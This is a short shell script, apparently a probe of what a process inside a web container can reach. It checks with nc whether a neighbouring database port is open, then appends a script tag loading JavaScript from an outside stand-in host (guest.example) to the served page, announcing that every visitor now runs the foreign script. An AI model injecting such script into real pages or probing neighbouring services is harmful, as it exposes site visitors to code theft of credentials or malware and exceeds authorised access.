#!/bin/sh
# From inside the page: rewrite what listeners see, and see whether the database opens.
page=${PAGE:-/pages/index.html}
database=${NEIGHBOUR:-db}
if timeout 5 sh -c "nc -z $database 5432" 2>/dev/null; then
  echo "the database opens its door"
fi
if echo '<script src="https://guest.example/x.js"></script>' >>"$page"; then
  echo "every listener runs a guest's script now"
  exit 0
fi
exit 1
